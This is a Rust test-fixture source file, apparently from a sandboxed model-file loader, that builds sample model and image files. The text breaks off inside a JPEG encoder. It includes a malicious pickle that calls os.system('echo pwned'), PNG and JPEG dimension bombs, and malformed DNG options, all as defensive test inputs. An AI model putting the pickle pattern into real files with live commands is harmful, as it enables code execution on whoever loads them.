//! Generators of real files: valid safetensors, pickles of every protocol, PyTorch zip and tar
//! checkpoints, NumPy files, DNGs and TIFFs, PNG/JPEG heads and bombs, safetensors polyglots,
//! and the magic-number heads of the other formats.
//!
//! sandload's test suite, fuzz seed corpus, benchmarks, examples and Python tests all build
//! their inputs here, so no binary blob of unknown origin is needed anywhere. Every generator
//! writes the format's real byte layout (CRC-checked zip entries, ustar headers, pickle
//! opcodes); the pickles were checked against CPython's `pickle.loads` when written. Test
//! scaffolding: a dev-dependency of sandload, never part of the library.
//!
//! ```
//! let input = sandload::Input::from_bytes(sandload_samples::small_checkpoint(), "model.safetensors");
//! let checkpoint = sandload::Sandbox::new()?.open_safetensors(input)?;
//! assert_eq!(checkpoint.tensors().len(), 3);
//! # Ok::<(), sandload::Error>(())
//! ```
#![deny(missing_docs)]

use sandload::Dtype;

/// One tensor for [`safetensors`]: name, dtype, shape and raw little-endian bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tensor {
    /// Name.
    pub name: String,
    /// Element type.
    pub dtype: Dtype,
    /// Shape.
    pub shape: Vec<u64>,
    /// Bytes (must match dtype x shape for a valid file).
    pub data: Vec<u8>,
}

impl Tensor {
    /// A tensor whose bytes are a deterministic pattern of the right length.
    ///
    /// # Panics
    /// If the shape's byte size overflows or is not a whole number of bytes.
    pub fn patterned(name: &str, dtype: Dtype, shape: &[u64]) -> Tensor {
        let len = dtype.byte_len(shape).expect("valid shape") as usize;
        let seed = name.bytes().fold(17u8, |a, b| a.wrapping_mul(31).wrapping_add(b));
        let data = (0..len).map(|i| seed.wrapping_add((i as u8).wrapping_mul(7))).collect();
        Tensor { name: name.to_string(), dtype, shape: shape.to_vec(), data }
    }
}

/// Writes a valid safetensors file: tensors in the given order, contiguous, header padded with
/// spaces to a multiple of 8 bytes as the reference writer does.
pub fn safetensors(tensors: &[Tensor], metadata: &[(&str, &str)]) -> Vec<u8> {
    let mut header = String::from("{");
    let mut entries = Vec::new();
    if !metadata.is_empty() {
        let pairs: Vec<String> = metadata.iter().map(|(k, v)| format!("{}:{}", json_str(k), json_str(v))).collect();
        entries.push(format!("\"__metadata__\":{{{}}}", pairs.join(",")));
    }
    let mut offset = 0u64;
    for t in tensors {
        let end = offset + t.data.len() as u64;
        let shape: Vec<String> = t.shape.iter().map(u64::to_string).collect();
        entries.push(format!(
            "{}:{{\"dtype\":\"{}\",\"shape\":[{}],\"data_offsets\":[{offset},{end}]}}",
            json_str(&t.name),
            t.dtype.name(),
            shape.join(",")
        ));
        offset = end;
    }
    header.push_str(&entries.join(","));
    header.push('}');
    while header.len() % 8 != 0 {
        header.push(' ');
    }
    let mut file = with_header(&header);
    for t in tensors {
        file.extend_from_slice(&t.data);
    }
    file
}

/// An 8-byte length prefix and `header` verbatim (for hand-written, possibly invalid, headers).
pub fn with_header(header: &str) -> Vec<u8> {
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend_from_slice(header.as_bytes());
    file
}

/// A JSON string literal.
pub fn json_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A small valid checkpoint with three tensors of different dtypes and some metadata.
pub fn small_checkpoint() -> Vec<u8> {
    safetensors(
        &[
            Tensor::patterned("embed.weight", Dtype::F32, &[4, 8]),
            Tensor::patterned("layer0.bias", Dtype::BF16, &[8]),
            Tensor::patterned("step", Dtype::I64, &[]),
        ],
        &[("format", "pt"), ("producer", "sandload samples")],
    )
}

/// A pickle of `{"weight": 1}` in `protocol` (0 to 5), as CPython's `pickle.dumps` writes it.
///
/// # Panics
/// If `protocol > 5`.
pub fn pickle(protocol: u8) -> Vec<u8> {
    match protocol {
        0 => b"(dp0\nVweight\np1\nI1\ns.".to_vec(),
        1 => b"}q\x00X\x06\x00\x00\x00weightq\x01K\x01s.".to_vec(),
        2 | 3 => {
            let mut p = vec![0x80, protocol];
            p.extend_from_slice(b"}q\x00X\x06\x00\x00\x00weightq\x01K\x01s.");
            p
        }
        4 | 5 => {
            let body = b"}\x94\x8c\x06weight\x94K\x01s.";
            let mut p = vec![0x80, protocol, 0x95];
            p.extend_from_slice(&(body.len() as u64).to_le_bytes());
            p.extend_from_slice(body);
            p
        }
        _ => panic!("pickle protocols are 0 to 5"),
    }
}

/// The classic malicious pickle (protocol 0): unpickling it would call `os.system`. sandload
/// only ever looks at these bytes.
pub fn malicious_pickle() -> Vec<u8> {
    b"cos\nsystem\n(S'echo pwned'\ntR.".to_vec()
}

/// A `torch.save`-style zip: `archive/data.pkl`, `archive/byteorder`, `archive/data/0`,
/// `archive/version` (stored, with correct CRCs, local headers, central directory and EOCD).
pub fn pytorch_zip() -> Vec<u8> {
    zip(&[
        ("archive/data.pkl", &pickle(2)),
        ("archive/byteorder", b"little"),
        ("archive/data/0", &[0u8; 16]),
        ("archive/version", b"3\n"),
    ])
}

/// A NumPy `.npz`: a zip of `.npy` members.
pub fn npz() -> Vec<u8> {
    zip(&[("a.npy", &npy("<f4", &[2], &[0u8; 8])), ("b.npy", &npy("<i8", &[1], &[0u8; 8]))])
}

/// A stored (uncompressed) zip archive of `entries`.
pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in entries {
        let offset = out.len() as u32;
        let crc = crc32(data);
        let mut local = Vec::new();
        local.extend_from_slice(b"PK\x03\x04");
        local.extend_from_slice(&20u16.to_le_bytes()); // version needed
        local.extend_from_slice(&0u16.to_le_bytes()); // flags
        local.extend_from_slice(&0u16.to_le_bytes()); // method: stored
        local.extend_from_slice(&0u32.to_le_bytes()); // time, date
        local.extend_from_slice(&crc.to_le_bytes());
        local.extend_from_slice(&(data.len() as u32).to_le_bytes());
        local.extend_from_slice(&(data.len() as u32).to_le_bytes());
        local.extend_from_slice(&(name.len() as u16).to_le_bytes());
        local.extend_from_slice(&0u16.to_le_bytes()); // extra
        local.extend_from_slice(name.as_bytes());
        out.extend_from_slice(&local);
        out.extend_from_slice(data);

        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&20u16.to_le_bytes()); // made by
        central.extend_from_slice(&20u16.to_le_bytes()); // needed
        central.extend_from_slice(&0u16.to_le_bytes());
        central.extend_from_slice(&0u16.to_le_bytes());
        central.extend_from_slice(&0u32.to_le_bytes());
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&0u16.to_le_bytes()); // extra
        central.extend_from_slice(&0u16.to_le_bytes()); // comment
        central.extend_from_slice(&0u16.to_le_bytes()); // disk
        central.extend_from_slice(&0u16.to_le_bytes()); // internal attrs
        central.extend_from_slice(&0u32.to_le_bytes()); // external attrs
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// CRC-32 (IEEE), for zip entries.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// PyTorch's legacy (pre-1.6) tar layout: `sys_info`, `pickle`, `storages`, `tensors`.
pub fn pytorch_tar() -> Vec<u8> {
    tar(&[("sys_info", &pickle(2)), ("pickle", &pickle(2)), ("storages", &pickle(2)), ("tensors", &pickle(2))])
}

/// A ustar archive of regular files.
pub fn tar(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, data) in entries {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name.as_bytes());
        h[100..108].copy_from_slice(b"0000644\0");
        h[108..116].copy_from_slice(b"0000000\0");
        h[116..124].copy_from_slice(b"0000000\0");
        h[124..136].copy_from_slice(format!("{:011o}\0", data.len()).as_bytes());
        h[136..148].copy_from_slice(b"00000000000\0");
        h[156] = b'0';
        h[257..263].copy_from_slice(b"ustar\0");
        h[263..265].copy_from_slice(b"00");
        h[148..156].copy_from_slice(b"        ");
        let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
        h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        out.extend_from_slice(&h);
        out.extend_from_slice(data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

/// A NumPy `.npy` (format 1.0) with the given dtype descriptor, shape and data.
pub fn npy(descr: &str, shape: &[u64], data: &[u8]) -> Vec<u8> {
    let dims: Vec<String> = shape.iter().map(u64::to_string).collect();
    let shape = if dims.len() == 1 { format!("({},)", dims[0]) } else { format!("({})", dims.join(", ")) };
    let mut header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}");
    while (10 + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut out = b"\x93NUMPY\x01\x00".to_vec();
    out.extend_from_slice(&(header.len() as u16).to_le_bytes());
    out.extend_from_slice(header.as_bytes());
    out.extend_from_slice(data);
    out
}

/// A NumPy object array: its payload is a pickle.
pub fn npy_object() -> Vec<u8> {
    npy("|O", &[1], &pickle(2))
}

/// A GGUF v3 file head: magic, version, zero tensors, zero metadata entries.
pub fn gguf() -> Vec<u8> {
    let mut out = b"GGUF".to_vec();
    out.extend_from_slice(&3u32.to_le_bytes());
    out.extend_from_slice(&0u64.to_le_bytes());
    out.extend_from_slice(&0u64.to_le_bytes());
    out
}

/// An HDF5 superblock (version 0) head.
pub fn hdf5() -> Vec<u8> {
    let mut out = b"\x89HDF\r\n\x1a\n".to_vec();
    out.extend_from_slice(&[0, 0, 0, 0, 0, 8, 8, 0, 4, 0, 16, 0, 0, 0, 0, 0]);
    out.resize(96, 0);
    out
}

/// A minimal ONNX `ModelProto`: ir_version 8, producer "sandload", opset 17.
pub fn onnx() -> Vec<u8> {
    let mut out = vec![0x08, 0x08]; // ir_version = 8
    out.extend_from_slice(&[0x12, 8]); // producer_name
    out.extend_from_slice(b"sandload");
    out.extend_from_slice(&[0x42, 2, 0x10, 17]); // opset_import { version: 17 }
    out
}

/// A 1x1 grey PNG (signature, IHDR, IDAT, IEND with correct CRCs).
pub fn png() -> Vec<u8> {
    png_with_header(1, 1, 0, &[0, 0x80])
}

/// A JPEG head (SOI, APP0/JFIF).
pub fn jpeg_head() -> Vec<u8> {
    b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xFF\xD9".to_vec()
}

/// A little-endian TIFF with one IFD; `dng` adds a DNGVersion tag, `make` a Make tag.
pub fn tiff(dng: bool, make: Option<&str>) -> Vec<u8> {
    let mut entries: Vec<(u16, u16, u32, Vec<u8>)> = vec![
        (256, 3, 1, 1u16.to_le_bytes().to_vec()), // ImageWidth
        (257, 3, 1, 1u16.to_le_bytes().to_vec()), // ImageLength
    ];
    if let Some(make) = make {
        let mut bytes = make.as_bytes().to_vec();
        bytes.push(0);
        entries.push((271, 2, bytes.len() as u32, bytes));
    }
    if dng {
        entries.push((50706, 1, 4, vec![1, 4, 0, 0]));
    }
    entries.sort_by_key(|e| e.0);
    let ifd_offset = 8u32;
    let ifd_len = 2 + 12 * entries.len() as u32 + 4;
    let mut extra = Vec::new();
    let mut out = b"II*\0".to_vec();
    out.extend_from_slice(&ifd_offset.to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    for (tag, kind, count, value) in &entries {
        out.extend_from_slice(&tag.to_le_bytes());
        out.extend_from_slice(&kind.to_le_bytes());
        out.extend_from_slice(&count.to_le_bytes());
        if value.len() <= 4 {
            let mut v = value.clone();
            v.resize(4, 0);
            out.extend_from_slice(&v);
        } else {
            let at = ifd_offset + ifd_len + extra.len() as u32;
            out.extend_from_slice(&at.to_le_bytes());
            extra.extend_from_slice(value);
        }
    }
    out.extend_from_slice(&0u32.to_le_bytes());
    out.extend_from_slice(&extra);
    out
}

/// A value of one TIFF directory entry, for [`tiff_file`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TiffValue {
    /// The value's bytes (little-endian), stored inline or out of line as TIFF requires.
    Bytes(Vec<u8>),
    /// A LONG holding the file offset of directory `n` of the same file.
    IfdOffset(usize),
    /// A LONG holding the file offset of data block `n`.
    BlobOffset(usize),
    /// LONGs holding the file offset of data block `n` plus each of these (tile offsets).
    BlobOffsets(usize, Vec<u32>),
}

/// One directory entry: tag, TIFF type (1 BYTE, 2 ASCII, 3 SHORT, 4 LONG, 5 RATIONAL,
/// 10 SRATIONAL), count, value.
pub type TiffEntry = (u16, u16, u32, TiffValue);

/// A little-endian TIFF: `ifds` are written in order after the header (the first is IFD0), each
/// linked to the one `next[i]` names (`None`: end of chain), then the data `blobs`. Entries are
/// sorted by tag as TIFF requires.
pub fn tiff_file(ifds: &[Vec<TiffEntry>], next: &[Option<usize>], blobs: &[Vec<u8>]) -> Vec<u8> {
    let value_len = |v: &TiffValue| match v {
        TiffValue::Bytes(b) => b.len(),
        TiffValue::IfdOffset(_) | TiffValue::BlobOffset(_) => 4,
        TiffValue::BlobOffsets(_, within) => 4 * within.len(),
    };
    let out_of_line = |v: &TiffValue| value_len(v).div_ceil(2) * 2;
    let sizes: Vec<usize> = ifds
        .iter()
        .map(|entries| {
            2 + 12 * entries.len()
                + 4
                + entries.iter().filter(|e| value_len(&e.3) > 4).map(|e| out_of_line(&e.3)).sum::<usize>()
        })
        .collect();
    let mut ifd_at = Vec::new();
    let mut at = 8usize;
    for size in &sizes {
        ifd_at.push(at as u32);
        at += size;
    }
    let mut blob_at = Vec::new();
    for blob in blobs {
        blob_at.push(at as u32);
        at += blob.len();
    }
    let resolve = |v: &TiffValue| match v {
        TiffValue::Bytes(b) => b.clone(),
        TiffValue::IfdOffset(i) => ifd_at[*i].to_le_bytes().to_vec(),
        TiffValue::BlobOffset(i) => blob_at[*i].to_le_bytes().to_vec(),
        TiffValue::BlobOffsets(i, within) => within.iter().flat_map(|w| (blob_at[*i] + w).to_le_bytes()).collect(),
    };
    let mut out = b"II*\0".to_vec();
    out.extend_from_slice(&ifd_at.first().copied().unwrap_or(0).to_le_bytes());
    for (i, entries) in ifds.iter().enumerate() {
        let mut entries = entries.clone();
        entries.sort_by_key(|e| e.0);
        let mut extra_at = ifd_at[i] as usize + 2 + 12 * entries.len() + 4;
        let mut extra = Vec::new();
        out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
        for (tag, kind, count, value) in &entries {
            out.extend_from_slice(&tag.to_le_bytes());
            out.extend_from_slice(&kind.to_le_bytes());
            out.extend_from_slice(&count.to_le_bytes());
            let mut bytes = resolve(value);
            if bytes.len() <= 4 {
                bytes.resize(4, 0);
                out.extend_from_slice(&bytes);
            } else {
                out.extend_from_slice(&(extra_at as u32).to_le_bytes());
                bytes.resize(out_of_line(value), 0);
                extra_at += bytes.len();
                extra.extend_from_slice(&bytes);
            }
        }
        let next_at = next.get(i).copied().flatten().map_or(0, |n| ifd_at[n]);
        out.extend_from_slice(&next_at.to_le_bytes());
        out.extend_from_slice(&extra);
    }
    for blob in blobs {
        out.extend_from_slice(blob);
    }
    out
}

fn shorts(values: &[u16]) -> TiffValue {
    TiffValue::Bytes(values.iter().flat_map(|v| v.to_le_bytes()).collect())
}

fn longs(values: &[u32]) -> TiffValue {
    TiffValue::Bytes(values.iter().flat_map(|v| v.to_le_bytes()).collect())
}

fn ascii(s: &str) -> (u32, TiffValue) {
    let mut b = s.as_bytes().to_vec();
    b.push(0);
    (b.len() as u32, TiffValue::Bytes(b))
}

/// Signed rationals with denominator 10000.
fn srationals(values: &[f32]) -> TiffValue {
    TiffValue::Bytes(
        values
            .iter()
            .flat_map(|v| [((v * 10000.0).round() as i32).to_le_bytes(), 10000i32.to_le_bytes()])
            .flatten()
            .collect(),
    )
}

/// An uncompressed 16-bit DNG (DNG 1.4 layout: IFD0 holds the camera tags and, if there is one,
/// an 8-bit RGB preview; the raw image is IFD0 itself or its SubIFD).
///
/// Fields are public so tests can write files that lie: `declared_size` overrides the
/// dimensions in the tags, `strip_offset` the data offset, `self_loop` links IFD0 to itself.
#[derive(Debug, Clone, PartialEq)]
pub struct Dng {
    /// Width in pixels.
    pub width: u32,
    /// Height in pixels.
    pub height: u32,
    /// Components per pixel: 1 (CFA mosaic) or 3 (linear RGB, `LinearRaw`).
    pub cpp: u16,
    /// The samples, row-major, `width x height x cpp`.
    pub samples: Vec<u16>,
    /// The 2x2 CFA pattern as colour indices (0 R, 1 G, 2 B). By default RGGB.
    pub cfa: [u8; 4],
    /// Black level (all positions).
    pub black_level: u16,
    /// White level.
    pub white_level: u16,
    /// Camera make.
    pub make: String,
    /// Camera model.
    pub model: String,
    /// XYZ -> camera matrix (`ColorMatrix1`), row-major.
    pub color_matrix: [f32; 9],
    /// As-shot neutral (`AsShotNeutral`): the camera's response to white, R G B.
    pub as_shot_neutral: [f32; 3],
    /// `ActiveArea` as (top, left, bottom, right), if any.
    pub active_area: Option<[u32; 4]>,
    /// An 8-bit RGB preview (width, height, pixels) in IFD0, the raw image then in a SubIFD.
    pub preview: Option<(u32, u32, Vec<u8>)>,
    /// Dimensions written in the tags instead of the real ones.
    pub declared_size: Option<(u32, u32)>,
    /// Strip offset written instead of the real one.
    pub strip_offset: Option<u32>,
    /// Link IFD0's next-IFD pointer to IFD0 itself (an IFD cycle).
    pub self_loop: bool,
    /// Store the samples as a lossless JPEG (DNG compression 7) instead of uncompressed.
    pub lossless_jpeg: bool,
    /// Store the raw image as tiles of (width, height) pixels, each its own lossless JPEG or
    /// uncompressed block, as cameras and Adobe's DNG converter write them (256 x 256 lossless
    /// JPEG is typical). Tiles past the right and bottom edges are padded by repeating the last
    /// column and row.
    pub tiles: Option<(u32, u32)>,
    /// EXIF `Orientation` (1-8).
    pub orientation: u16,
    /// EXIF `LensMake` and `LensModel`, if any.
    pub lens: Option<(String, String)>,
    /// EXIF `FNumber` as (numerator, denominator), if any.
    pub f_number: Option<(u32, u32)>,
    /// EXIF `FocalLength` in mm as (numerator, denominator), if any.
    pub focal_length: Option<(u32, u32)>,
}

impl Dng {
    /// A DNG of an RGGB mosaic with the given samples (row-major, `width x height`); black 0,
    /// white 65535, an sRGB-like colour matrix, neutral white balance, no preview.
    ///
    /// # Panics
    /// If `samples.len() != width * height`.
    pub fn new(width: u32, height: u32, samples: Vec<u16>) -> Dng {
        assert_eq!(samples.len(), width as usize * height as usize, "samples must be width x height");
        Dng {
            width,
            height,
            cpp: 1,
            samples,
            cfa: [0, 1, 1, 2],
            black_level: 0,
            white_level: 65535,
            make: "Sandload".into(),
            model: "Synthetic 16".into(),
            // sRGB's XYZ -> linear RGB (D65): develops to the identity colour transform.
            color_matrix: [
                3.2404542, -1.5371385, -0.4985314, -0.969266, 1.8760108, 0.041556, 0.0556434, -0.2040259, 1.0572252,
            ],
            as_shot_neutral: [1.0, 1.0, 1.0],
            active_area: None,
            preview: None,
            declared_size: None,
            strip_offset: None,
            self_loop: false,
            lossless_jpeg: false,
            tiles: None,
            orientation: 1,
            lens: None,
            f_number: None,
            focal_length: None,
        }
    }

    /// A `width x height` mosaic of a smooth, deterministic test pattern spanning 12 bits above a
    /// black level of 256 (white 4095 + 256): the benchmark and example input.
    pub fn patterned(width: u32, height: u32) -> Dng {
        let samples = (0..height)
            .flat_map(|y| (0..width).map(move |x| 256 + ((x * 7 + y * 13 + (x * y) % 101) % 4096) as u16))
            .collect();
        Dng { black_level: 256, white_level: 4095 + 256, ..Dng::new(width, height, samples) }
    }

    /// The file's bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let (w, h) = self.declared_size.unwrap_or((self.width, self.height));
        let encode = |width: u32, height: u32, samples: &[u16]| -> Vec<u8> {
            if self.lossless_jpeg {
                lossless_jpeg(width * u32::from(self.cpp), height, samples)
            } else {
                samples.iter().flat_map(|s| s.to_le_bytes()).collect()
            }
        };
        let cpp = self.cpp;
        // The pixel data's layout: one strip, or tiles (offsets within the one data block).
        let (data, layout): (Vec<u8>, Vec<TiffEntry>) = match self.tiles {
            None => {
                let data = encode(self.width, self.height, &self.samples);
                let strip = match self.strip_offset {
                    Some(at) => longs(&[at]),
                    None => TiffValue::BlobOffset(0),
                };
                let n = data.len() as u32;
                (data, vec![(273, 4, 1, strip), (278, 4, 1, longs(&[h])), (279, 4, 1, longs(&[n]))])
            }
            Some((tw, th)) => {
                let (across, down) = (self.width.div_ceil(tw), self.height.div_ceil(th));
                let (mut data, mut offsets, mut counts) = (Vec::new(), Vec::new(), Vec::new());
                let c = usize::from(cpp);
                for ty in 0..down {
                    for tx in 0..across {
                        let mut tile = Vec::with_capacity((tw * th) as usize * c);
                        for y in 0..th {
                            let sy = (ty * th + y).min(self.height - 1) as usize;
                            for x in 0..tw {
                                let sx = (tx * tw + x).min(self.width - 1) as usize;
                                let at = (sy * self.width as usize + sx) * c;
                                tile.extend_from_slice(&self.samples[at..at + c]);
                            }
                        }
                        let bytes = encode(tw, th, &tile);
                        offsets.push(data.len() as u32);
                        counts.push(bytes.len() as u32);
                        data.extend_from_slice(&bytes);
                    }
                }
                let n = offsets.len() as u32;
                let layout = vec![
                    (322, 4, 1, longs(&[tw])),
                    (323, 4, 1, longs(&[th])),
                    (324, 4, n, TiffValue::BlobOffsets(0, offsets)),
                    (325, 4, n, longs(&counts)),
                ];
                (data, layout)
            }
        };
        let mut raw: Vec<TiffEntry> = vec![
            (254, 4, 1, longs(&[0])), // NewSubFileType: main image
            (256, 4, 1, longs(&[w])),
            (257, 4, 1, longs(&[h])),
            (258, 3, u32::from(cpp), shorts(&vec![16; usize::from(cpp)])),
            (259, 3, 1, shorts(&[if self.lossless_jpeg { 7 } else { 1 }])), // Compression: none or lossless JPEG
            (262, 3, 1, shorts(&[if cpp == 1 { 32803 } else { 34892 }])),   // CFA / LinearRaw
            (277, 3, 1, shorts(&[cpp])),
            (284, 3, 1, shorts(&[1])),
            (50713, 3, 2, shorts(&[1, 1])), // BlackLevelRepeatDim
            (50714, 4, u32::from(cpp), longs(&vec![u32::from(self.black_level); usize::from(cpp)])),
            (50717, 4, u32::from(cpp), longs(&vec![u32::from(self.white_level); usize::from(cpp)])),
        ];
        raw.extend(layout);
        if cpp == 1 {
            raw.push((33421, 3, 2, shorts(&[2, 2]))); // CFARepeatPatternDim
            raw.push((33422, 1, 4, TiffValue::Bytes(self.cfa.to_vec()))); // CFAPattern
        }
        if let Some(area) = self.active_area {
            raw.push((50829, 4, 4, longs(&area)));
        }
        let (make_n, make) = ascii(&self.make);
        let (model_n, model) = ascii(&self.model);
        let (unique_n, unique) = ascii(&format!("{} {}", self.make, self.model));
        let mut camera: Vec<TiffEntry> = vec![
            (271, 2, make_n, make),
            (272, 2, model_n, model),
            (274, 3, 1, shorts(&[self.orientation])),          // Orientation
            (50706, 1, 4, TiffValue::Bytes(vec![1, 4, 0, 0])), // DNGVersion
            (50707, 1, 4, TiffValue::Bytes(vec![1, 1, 0, 0])), // DNGBackwardVersion
            (50708, 2, unique_n, unique),                      // UniqueCameraModel
            (50721, 10, 9, srationals(&self.color_matrix)),    // ColorMatrix1
            (
                50728,
                5,
                3,
                TiffValue::Bytes(
                    self.as_shot_neutral
                        .iter()
                        .flat_map(|v| [((v * 10000.0).round() as u32).to_le_bytes(), 10000u32.to_le_bytes()])
                        .flatten()
                        .collect(),
                ),
            ), // AsShotNeutral
            (50778, 3, 1, shorts(&[21])),                      // CalibrationIlluminant1: D65
        ];
        // EXIF tags in IFD0, where DNG allows them.
        let rational = |(n, d): (u32, u32)| TiffValue::Bytes([n.to_le_bytes(), d.to_le_bytes()].concat());
        if let Some(f) = self.f_number {
            camera.push((33437, 5, 1, rational(f))); // FNumber
        }
        if let Some(f) = self.focal_length {
            camera.push((37386, 5, 1, rational(f))); // FocalLength
        }
        if let Some((lens_make, lens_model)) = &self.lens {
            let (n, v) = ascii(lens_make);
            camera.push((42035, 2, n, v)); // LensMake
            let (n, v) = ascii(lens_model);
            camera.push((42036, 2, n, v)); // LensModel
        }

        let next = [if self.self_loop { Some(0) } else { None }, None];
        match &self.preview {
            None => {
                let mut ifd0 = raw;
                ifd0.extend(camera);
                tiff_file(&[ifd0], &next, &[data])
            }
            Some((pw, ph, pixels)) => {
                let mut ifd0: Vec<TiffEntry> = vec![
                    (254, 4, 1, longs(&[1])), // NewSubFileType: reduced-resolution preview
                    (256, 4, 1, longs(&[*pw])),
                    (257, 4, 1, longs(&[*ph])),
                    (258, 3, 3, shorts(&[8, 8, 8])),
                    (259, 3, 1, shorts(&[1])),
                    (262, 3, 1, shorts(&[2])), // RGB
                    (273, 4, 1, TiffValue::BlobOffset(1)),
                    (277, 3, 1, shorts(&[3])),
                    (278, 4, 1, longs(&[*ph])),
                    (279, 4, 1, longs(&[pixels.len() as u32])),
                    (284, 3, 1, shorts(&[1])),
                    (330, 4, 1, TiffValue::IfdOffset(1)), // SubIFDs
                ];
                ifd0.extend(camera);
                tiff_file(&[ifd0, raw], &next, &[data, pixels.clone()])
            }
        }
    }
}

/// A `width x height` 8-bit greyscale PNG of a gradient (zlib stored blocks, real CRCs).
pub fn png_image(width: u32, height: u32) -> Vec<u8> {
    let mut raw = Vec::with_capacity((width as usize + 1) * height as usize);
    for y in 0..height {
        raw.push(0); // filter: none
        raw.extend((0..width).map(|x| ((x * 255) / width.max(1) + y) as u8));
    }
    png_with_header(width, height, 0, &raw)
}

/// A PNG whose IHDR declares `width x height` grey pixels but whose data is only `scanlines`
/// (already filtered): with huge dimensions, a decompression/dimension bomb.
pub fn png_with_header(width: u32, height: u32, color_type: u8, scanlines: &[u8]) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc_input = kind.to_vec();
        crc_input.extend_from_slice(data);
        out.extend_from_slice(&crc_input);
        out.extend_from_slice(&crc32(&crc_input).to_be_bytes());
    }
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, color_type, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &zlib_stored(scanlines));
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A zlib stream of `data` in stored (uncompressed) deflate blocks.
fn zlib_stored(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x78, 0x01];
    let mut blocks = data.chunks(65535).peekable();
    if blocks.peek().is_none() {
        out.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    }
    while let Some(block) = blocks.next() {
        out.push(u8::from(blocks.peek().is_none()));
        let len = block.len() as u16;
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&(!len).to_le_bytes());
        out.extend_from_slice(block);
    }
    let (mut a, mut b) = (1u32, 0u32);
    for &byte in data {
        a = (a + u32::from(byte)) % 65521;
        b = (b + a) % 65521;
    }
    out.extend_from_slice(&((b << 16) | a).to_be_bytes());
    out
}

/// A baseline JPEG head whose SOF0 declares `width x height` (3 components) followed by a scan
/// header and a few bytes of entropy data: a dimension bomb when the dimensions are huge.
pub fn jpeg_with_dimensions(width: u16, height: u16) -> Vec<u8> {
    let mut out = vec![0xFF, 0xD8];
    // DQT: one table of 1s.
    out.extend_from_slice(&[0xFF, 0xDB, 0x00, 0x43, 0x00]);
    out.extend_from_slice(&[1u8; 64]);
    // SOF0: 8-bit, height, width, 3 components sharing table 0, no subsampling.
    out.extend_from_slice(&[0xFF, 0xC0, 0x00, 0x11, 0x08]);
    out.extend_from_slice(&height.to_be_bytes());
    out.extend_from_slice(&width.to_be_bytes());
    out.extend_from_slice(&[0x03, 0x01, 0x11, 0x00, 0x02, 0x11, 0x00, 0x03, 0x11, 0x00]);
    // DHT: DC table 0 and AC table 0, each with one 1-bit code.
    for class in [0x00u8, 0x10] {
        out.extend_from_slice(&[0xFF, 0xC4, 0x00, 0x14, class, 1]);
        out.extend_from_slice(&[0u8; 15]);
        out.push(0);
    }
    // SOS: 3 components, tables 0/0.
    out.extend_from_slice(&[0xFF, 0xDA, 0x00, 0x0C, 0x03, 0x01, 0x00, 0x02, 0x00, 0x03, 0x00, 0x00, 0x3F, 0x00]);
    out.extend_from_slice(&[0x00; 16]);
    out.extend_from_slice(&[0xFF, 0xD9]);
    out
}

/// A 16-bit, one-component lossless JPEG (ITU T.81 process 14, SOF3, predictor 1) of a
/// `width x height` image: the compression DNG files use. The Huffman table gives every
/// difference category (0 to 16) a 5-bit code, which is valid if not optimal.
pub fn lossless_jpeg(width: u32, height: u32, samples: &[u16]) -> Vec<u8> {
    assert_eq!(samples.len(), width as usize * height as usize, "samples must be width x height");
    let (w16, h16) = (u16::try_from(width).expect("width < 65536"), u16::try_from(height).expect("height < 65536"));
    let mut out = vec![0xFF, 0xD8];
